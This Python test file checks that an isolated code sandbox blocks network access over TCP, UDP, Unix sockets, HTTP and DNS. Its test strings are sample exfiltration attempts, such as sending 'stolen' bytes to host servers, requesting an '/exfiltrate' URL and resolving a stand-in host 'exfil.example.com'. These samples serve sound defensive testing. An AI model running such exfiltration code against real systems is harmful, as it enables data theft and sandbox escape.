"""Connections to servers the test runs on the host: TCP, UDP, Unix (path and abstract).

Each server is a real listening socket; the attack must fail inside the sandbox AND the
server must never have accepted (or received) anything.
"""

from __future__ import annotations

import socket

import pytest

from rlmx.sandbox import IsolatedSandbox
from tests.security._helpers import EPERM, Server, attempt, blocked, run


async def test_tcp_connect_to_host_server(sandbox: IsolatedSandbox, tcp_server: Server) -> None:
    code = "import socket\n" + attempt(
        f"s = socket.create_connection({tcp_server.address!r}, timeout=2)\ns.sendall(b'stolen')"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)  # seccomp: no socket() at all
    assert await tcp_server.settled_accepts() == 0


async def test_tcp_connect_ex_to_host_server(sandbox: IsolatedSandbox, tcp_server: Server) -> None:
    code = "import socket\n" + attempt(
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        f"print('connect_ex', s.connect_ex({tcp_server.address!r}))"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)
    assert await tcp_server.settled_accepts() == 0


async def test_http_request_to_host_server(sandbox: IsolatedSandbox, tcp_server: Server) -> None:
    host, port = tcp_server.tcp
    code = (
        "import urllib.request, urllib.error\n"
        "try:\n"
        f"    urllib.request.urlopen('http://{host}:{port}/exfiltrate?data=x', timeout=2)\n"
        "except urllib.error.URLError as exc:\n"
        "    print('BLOCKED', type(exc.reason).__name__, exc.reason.errno)\n"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)
    assert await tcp_server.settled_accepts() == 0


async def test_tcp_ipv6_loopback(sandbox: IsolatedSandbox, tcp_server: Server) -> None:
    _host, port = tcp_server.tcp
    code = "import socket\n" + attempt(
        f"socket.create_connection(('::ffff:127.0.0.1', {port}), timeout=2)"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)
    assert await tcp_server.settled_accepts() == 0


async def test_udp_datagram_to_host(
    sandbox: IsolatedSandbox, udp_server: tuple[socket.socket, tuple[str, int]]
) -> None:
    receiver, address = udp_server
    code = "import socket\n" + attempt(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"s.sendto(b'exfiltrated', {address!r})"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)
    with pytest.raises(BlockingIOError):
        receiver.recv(1024)  # nothing ever arrived


async def test_unix_socket_to_host_server(sandbox: IsolatedSandbox, unix_server: Server) -> None:
    code = "import socket\n" + attempt(
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        f"s.connect({unix_server.address!r})\ns.sendall(b'stolen')"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)
    assert await unix_server.settled_accepts() == 0


async def test_abstract_unix_socket_to_host_server(
    sandbox: IsolatedSandbox, abstract_unix_server: Server
) -> None:
    code = "import socket\n" + attempt(
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        f"s.connect({abstract_unix_server.address!r})\ns.sendall(b'stolen')"
    )
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)
    assert await abstract_unix_server.settled_accepts() == 0


async def test_socketpair(sandbox: IsolatedSandbox) -> None:
    r = await run(sandbox, "import socket\n" + attempt("socket.socketpair()"))
    assert r.stdout == blocked(EPERM)


async def test_listen_for_connections(sandbox: IsolatedSandbox) -> None:
    code = "import socket\n" + attempt("socket.create_server(('127.0.0.1', 0))")
    r = await run(sandbox, code)
    assert r.stdout == blocked(EPERM)


async def test_no_inherited_socket_to_reuse(sandbox: IsolatedSandbox) -> None:
    """No fd in the worker is a socket (the host's event loop has a self-pipe socketpair,
    for one); only stdio and the two protocol pipes are open."""
    code = (
        "import os, socket, stat\n"
        "sockets, open_fds = [], []\n"
        "for fd in range(1024):\n"
        "    try:\n"
        "        mode = os.fstat(fd).st_mode\n"
        "    except OSError:\n"
        "        continue\n"
        "    open_fds.append(fd)\n"
        "    if stat.S_ISSOCK(mode):\n"
        "        sockets.append(fd)\n"
        "print(sockets, len(open_fds))"
    )
    r = await run(sandbox, code)
    assert r.stdout == "[] 5\n"


async def test_dns_lookup(sandbox: IsolatedSandbox) -> None:
    """Name resolution needs a socket (and /etc/resolv.conf): exfiltration by DNS fails."""
    code = (
        "import socket\n"
        "try:\n"
        "    socket.getaddrinfo('exfil.example.com', 80)\n"
        "except OSError as exc:\n"
        "    print('BLOCKED', type(exc).__name__)\n"
    )
    r = await run(sandbox, code)
    assert r.stdout == "BLOCKED gaierror\n"
